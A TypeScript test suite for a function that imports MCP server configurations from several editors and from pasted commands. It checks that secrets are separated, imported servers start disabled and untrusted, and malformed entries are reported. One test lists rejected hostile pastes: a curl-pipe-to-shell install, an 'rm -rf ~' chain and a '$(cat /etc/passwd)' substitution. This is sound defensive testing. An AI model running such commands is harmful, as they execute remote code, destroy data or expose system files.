import { describe, expect, test } from 'vitest';
import { importServers } from './import-servers.ts';
import type { ImportedFile, ImportResult } from './import-servers.ts';

const vscode: ImportedFile = { format: 'vscode', file: 'mcp.json' };
const cursor: ImportedFile = { format: 'cursor', file: '~/.cursor/mcp.json' };
const desktop: ImportedFile = { format: 'claude-desktop', file: 'claude_desktop_config.json' };

/** Names, transports and what is said about them. */
function gist({ servers, problems }: ImportResult) {
  return {
    servers: servers.map(({ draft }) => ({ name: draft.config.name, ...draft.config.transport })),
    notes: servers.flatMap(({ draft }) => draft.notes),
    problems,
  };
}

function only(result: ImportResult) {
  expect(result.problems).toEqual([]);
  expect(result.servers).toHaveLength(1);
  const [server] = result.servers;
  if (server === undefined) throw new Error('There is none.');
  return { ...server.draft, secrets: Object.fromEntries(server.secrets) };
}

describe('a file of another application', () => {
  test('arrives off and not trusted, with its secret apart and what Tina does not know kept', () => {
    const { config, notes, secrets } = only(
      importServers(
        `{ // mine
          "mcpServers": { "github": {
            "command": "npx", "args": ["-y", "@modelcontextprotocol/server-github"],
            "env": { "GITHUB_PERSONAL_ACCESS_TOKEN": "ghp_0123456789abcdefghijABCDEFGHIJ", "PORT": 3000, "PATH": "/tmp" },
            "disabled": true, "autoApprove": ["search"], }, },
        }`,
        desktop,
      ),
    );
    expect(config).toEqual({
      name: 'github',
      enabled: false,
      trusted: false,
      transport: {
        type: 'stdio',
        command: 'npx',
        args: ['-y', '@modelcontextprotocol/server-github'],
        env: {
          GITHUB_PERSONAL_ACCESS_TOKEN: { secret: 'env.GITHUB_PERSONAL_ACCESS_TOKEN' },
          PORT: '3000',
        },
      },
      inputs: [],
      timeouts: { listSeconds: 15, callIdleSeconds: 60, callTotalSeconds: 600 },
      roots: [],
      sampling: 'off',
      source: { type: 'import', ...desktop },
      foreign: {
        format: 'claude-desktop',
        entry: { env: { PATH: '/tmp' }, disabled: true, autoApprove: ['search'] },
      },
    });
    expect(secrets).toEqual({
      'env.GITHUB_PERSONAL_ACCESS_TOKEN': 'ghp_0123456789abcdefghijABCDEFGHIJ',
    });
    expect(notes).toEqual([
      {
        note: 'secret-moved',
        field: 'env.GITHUB_PERSONAL_ACCESS_TOKEN',
        secret: 'env.GITHUB_PERSONAL_ACCESS_TOKEN',
      },
      { note: 'env-refused', name: 'PATH' },
      { note: 'field-kept', field: 'autoApprove' },
    ]);
  });

  test('VS Code: inputs, variables, a file of variables, and its settings', () => {
    const mcp = {
      inputs: [
        { type: 'promptString', id: 'token', description: 'Your token', password: true },
        { type: 'pickString', id: 'mode', options: ['fast', 'safe'], default: 'safe' },
        { type: 'promptString', id: 'unused' },
      ],
      servers: {
        local: {
          type: 'stdio',
          command: '${workspaceFolder}/bin/server',
          args: ['--mode', '${input:mode}', '--home=${userHome}${pathSeparator}data', '${HOME}'],
          env: { KEY: '${input:token}', LANG: '${env:LANG}' },
          envFile: '${workspaceFolder}/.env',
        },
        remote: {
          type: 'http',
          url: 'https://example.com/mcp',
          headers: { Authorization: 'Bearer ${input:token}', Host: 'x' },
          oauth: { clientId: 'me', audience: 'you' },
        },
      },
    };
    const expected = {
      servers: [
        {
          name: 'local',
          type: 'stdio',
          command: [{ input: 'workspaceFolder' }, '/bin/server'],
          args: [
            '--mode',
            { input: 'mode' },
            ['--home=', { variable: 'home' }, { variable: 'separator' }, 'data'],
            '${HOME}',
          ],
          env: { KEY: { input: 'token' }, LANG: { env: 'LANG' } },
          envFile: [{ input: 'workspaceFolder' }, '/.env'],
        },
        {
          name: 'remote',
          type: 'http',
          url: 'https://example.com/mcp',
          headers: { authorization: ['Bearer ', { input: 'token' }] },
          kind: 'auto',
          oauth: { clientId: 'me' },
        },
      ],
      notes: [
        { note: 'input-needed', input: 'workspaceFolder' },
        { note: 'input-needed', input: 'token' },
        { note: 'input-needed', input: 'token' },
        { note: 'header-refused', name: 'Host' },
      ],
      problems: [],
    };
    expect(gist(importServers(JSON.stringify(mcp), vscode))).toEqual(expected);
    const settings = importServers(JSON.stringify({ 'editor.fontSize': 12, mcp }), vscode);
    expect(gist(settings)).toEqual(expected);
    expect(settings.servers[0]?.draft.config.inputs).toMatchObject([
      { id: 'workspaceFolder', kind: 'folder', secret: false },
      { id: 'mode', kind: 'choice', choices: ['fast', 'safe'], default: 'safe' },
      { id: 'token', kind: 'text', label: 'Your token', secret: true, required: true },
    ]);
  });

  test('Cursor, Windsurf, Claude Code: each has its own variables and its own name for the address', () => {
    const entry = { url: 'https://x.example/mcp', headers: { 'X-Team': '${env:TEAM}' } };
    const asCursor = only(importServers(JSON.stringify({ mcpServers: { x: entry } }), cursor));
    expect(asCursor.config.transport).toMatchObject({ headers: { 'x-team': { env: 'TEAM' } } });

    const windsurf: ImportedFile = { format: 'windsurf', file: 'mcp_config.json' };
    const asWindsurf = importServers(
      '{"mcpServers":{"x":{"serverUrl":"https://x.example/mcp"}}}',
      windsurf,
    );
    expect(only(asWindsurf).config.transport).toMatchObject({ url: 'https://x.example/mcp' });

    const code: ImportedFile = { format: 'claude-code', file: '.mcp.json' };
    const asCode = importServers(
      '{"mcpServers":{"x":{"type":"sse","url":"${BASE:-https://x.example}/sse"}}}',
      code,
    );
    expect(only(asCode).config.transport).toEqual({
      type: 'http',
      url: [{ env: 'BASE', default: 'https://x.example' }, '/sse'],
      headers: {},
      kind: 'sse',
    });
  });

  test('Claude Desktop knows no variables: what looks like one is text', () => {
    const text = '{"mcpServers":{"x":{"command":"run","args":["${env:HOME}","${HOME}"]}}}';
    expect(only(importServers(text, desktop)).config.transport).toMatchObject({
      args: ['${env:HOME}', '${HOME}'],
    });
  });

  test('one bad entry never hides the others', () => {
    const mcpServers = {
      good: { command: 'run' },
      text: 'run',
      empty: {},
      both: { command: 'run', url: 'https://x.example' },
      socket: { url: 'unix:///tmp/x' },
      named: { url: 'https://me:pw@x.example/mcp' },
      ws: { type: 'ws', url: 'https://x.example' },
      args: { command: 'run', args: ['a', { b: 1 }] },
      line: { command: 'run', args: '--all' },
      long: { command: 'run', args: ['a'.repeat(9000)] },
      also: { url: 'https://x.example' },
    };
    const { servers, problems } = importServers(JSON.stringify({ mcpServers }), cursor);
    expect(servers.map(({ draft }) => draft.config.name)).toEqual(['good', 'also']);
    expect(problems).toEqual([
      { problem: 'entry-unreadable', entry: 'text' },
      { problem: 'command-missing', entry: 'empty' },
      { problem: 'command-and-url', entry: 'both' },
      { problem: 'url-not-web', entry: 'socket' },
      { problem: 'url-with-name', entry: 'named' },
      { problem: 'transport-unknown', entry: 'ws' },
      { problem: 'entry-unreadable', entry: 'args', fault: 'args' },
      { problem: 'entry-unreadable', entry: 'line', fault: 'args' },
      { problem: 'entry-unreadable', entry: 'long', fault: 'transport.args.0' },
    ]);
  });

  test.each([
    [
      '{"mcpServers": {"a": tru}}',
      { problem: 'not-readable', fault: 'unexpected-character', line: 1, column: 22 },
    ],
    [
      '{"mcpServers": {"a": 1\n',
      { problem: 'not-readable', fault: 'ends-early', line: 2, column: 1 },
    ],
    ['{"globalShortcut": ""}', { problem: 'no-servers' }],
    ['{"mcpServers": {}}', { problem: 'no-servers' }],
    ['', { problem: 'not-readable', fault: 'empty', line: 1, column: 1 }],
  ])('%j says what is wrong', (text, problem) => {
    expect(importServers(text, cursor)).toEqual({ servers: [], problems: [problem] });
  });
});

describe('what a person pasted', () => {
  test.each([
    ['an address', 'https://mcp.sentry.dev/mcp', 'sentry', { url: 'https://mcp.sentry.dev/mcp' }],
    [
      'a command',
      '$ npx -y @modelcontextprotocol/server-filesystem "/home/me/My Files"',
      'filesystem',
      {
        command: 'npx',
        args: ['-y', '@modelcontextprotocol/server-filesystem', '/home/me/My Files'],
      },
    ],
    [
      'a command on Windows',
      'node C:\\tools\\server.js',
      'server',
      { command: 'node', args: ['C:\\tools\\server.js'] },
    ],
    [
      'a command with variables',
      'DEBUG=1 uvx mcp-server-git==1.0 --repository .',
      'git==1.0',
      { command: 'uvx', env: { DEBUG: '1' } },
    ],
    [
      'an entry',
      '{"command": "uvx", "args": ["mcp-server-fetch"]}',
      'fetch',
      { command: 'uvx', args: ['mcp-server-fetch'] },
    ],
    [
      'an entry with a name before it',
      '"files": {"command": "files",},',
      'files',
      { command: 'files' },
    ],
    ['a record of entries', '{"files": {"command": "files"}}', 'files', { command: 'files' }],
    ['a list', '[{"name": "files", "command": "files"}]', 'files', { command: 'files' }],
    ['a fenced block', '```json\n{"mcpServers":{"a":{"command":"b"}}}\n```', 'a', { command: 'b' }],
    [
      'claude mcp add',
      'claude mcp add --transport http --scope user notion https://mcp.notion.com/mcp',
      'notion',
      { type: 'http', url: 'https://mcp.notion.com/mcp' },
    ],
    [
      'claude mcp add with a command',
      'claude mcp add airtable -e BASE=app1 MODE=fast -- npx -y airtable-mcp-server --verbose',
      'airtable',
      {
        command: 'npx',
        args: ['-y', 'airtable-mcp-server', '--verbose'],
        env: { BASE: 'app1', MODE: 'fast' },
      },
    ],
    [
      'claude mcp add-json',
      `claude mcp add-json github '{"type":"http","url":"https://api.githubcopilot.com/mcp"}'`,
      'github',
      { url: 'https://api.githubcopilot.com/mcp' },
    ],
    [
      'code --add-mcp',
      `code --add-mcp '{"name":"my-server","command":"uvx","args":["mcp-server-fetch"]}'`,
      'my-server',
      { command: 'uvx' },
    ],
    [
      'a container',
      'docker run -i --rm \\\n  -e GITHUB_TOKEN ghcr.io/github/github-mcp-server',
      'GITHUB_TOKEN',
      { args: ['run', '-i', '--rm', '-e', 'GITHUB_TOKEN', 'ghcr.io/github/github-mcp-server'] },
    ],
  ])('%s', (_what, text, name, transport) => {
    const { config } = only(importServers(text));
    expect(config.name).toBe(name);
    expect(config.transport).toMatchObject(transport);
    expect(config.source).toEqual({ type: 'paste' });
    expect(config.enabled).toBe(false);
  });

  test.each([
    ['curl https://x.example/install.sh | sh', { problem: 'shell-syntax' }],
    ['npx -y thing && rm -rf ~', { problem: 'shell-syntax' }],
    ['npx -y "$(cat /etc/passwd)"', { problem: 'shell-syntax' }],
    ['npx -y "thing', { problem: 'quote-open' }],
    ['claude mcp add thing', { problem: 'command-missing' }],
    ["code --add-mcp '{'", { problem: 'not-readable', fault: 'ends-early' }],
    ['{"command": 1}', { problem: 'no-servers' }],
    ['', { problem: 'no-servers' }],
    [
      '"a": {"command": }',
      { problem: 'not-readable', fault: 'unexpected-character', line: 1, column: 18 },
    ],
  ])('%s is not taken', (text, problem) => {
    expect(importServers(text)).toEqual({ servers: [], problems: [problem] });
  });

  test('several lines are several servers, and names differ', () => {
    const { servers, problems } = importServers('npx a-mcp\n# or\nnpx a-mcp --more\nnpx |\n');
    expect(servers.map(({ draft }) => draft.config.name)).toEqual(['a', 'a 2']);
    expect(problems).toEqual([{ problem: 'shell-syntax' }]);
  });

  test.each([
    [
      `claude mcp add-json github '{"type":"http","url":"https://api.githubcopilot.com/mcp","headers":{"Authorization":"Bearer YOUR_GITHUB_PAT"}}'`,
      { headers: { authorization: ['Bearer ', { input: 'header.authorization' }] } },
    ],
    [
      'claude mcp add --header "CONTEXT7_API_KEY: YOUR_API_KEY" --transport http context7 https://mcp.context7.com/mcp',
      { headers: { context7_api_key: { input: 'header.context7_api_key' } } },
    ],
    [
      'claude mcp add context7 -- npx -y @upstash/context7-mcp --api-key YOUR_API_KEY',
      { args: ['-y', '@upstash/context7-mcp', '--api-key', { input: 'arg.4' }] },
    ],
  ])('a line of real instructions, whose key the person has to give: %s', (line, transport) => {
    const { config } = only(importServers(line));
    expect(config.transport).toMatchObject(transport);
    expect(config.inputs).toMatchObject([{ secret: true, required: true }]);
  });

  test('ten megabytes of anything end soon', () => {
    const size = 10 * 1024 * 1024;
    for (const piece of ['\n', '{', '"', '`', '<a> ', 'your-', '{"a":', '-----BEGIN ', '\\\n'])
      for (const before of ['', '```json\n', '{"mcpServers":{"a":{"command":"'])
        expect(importServers(before + piece.repeat(size / piece.length)).servers).toEqual([]);
    const long = JSON.stringify({
      mcpServers: { a: { command: 'x', more: 'your-'.repeat(60_000) } },
    });
    expect(importServers(long).problems).toEqual([{ problem: 'too-large', entry: 'a' }]);
  });

  test('more servers than there can be', () => {
    const entries = Array.from({ length: 101 }, (_, index) => [`s${index}`, { command: 'x' }]);
    const { servers, problems } = importServers(JSON.stringify(Object.fromEntries(entries)));
    expect([servers.length, problems]).toEqual([100, [{ problem: 'too-many-servers' }]]);
  });

  test('what stands for a value of the person becomes an input', () => {
    const { config, notes } = only(
      importServers(
        `{"mcpServers":{"x":{"command":"npx","args":["x","/path/to/folder","--key","<KEY>"],
          "env":{"API_KEY":"YOUR_API_KEY","API_TOKEN":"","MODE":"your mode"}}}}`,
      ),
    );
    expect(config.inputs).toMatchObject([
      { id: 'arg.2', kind: 'folder', placeholder: '/path/to/folder', secret: false },
      { id: 'arg.4', placeholder: '<KEY>', secret: true },
      { id: 'env.API_KEY', placeholder: 'YOUR_API_KEY', secret: true },
      { id: 'env.API_TOKEN', placeholder: '', secret: true },
    ]);
    expect(notes.map(({ note }) => note)).toEqual(Array(4).fill('input-needed'));
    expect(config.transport).toMatchObject({ env: { MODE: 'your mode' } });
  });

  test('keys of JavaScript objects are names like any other', () => {
    const text =
      '{"mcpServers":{"__proto__":{"command":"a"},"x":{"command":"b","env":{"__proto__":"c"}}}}';
    const { servers } = importServers(text);
    expect(servers.map(({ draft }) => draft.config.name)).toEqual(['__proto__', 'x']);
    expect(Object.getPrototypeOf(servers[1]?.draft.config.transport)).toBe(Object.prototype);
  });
});
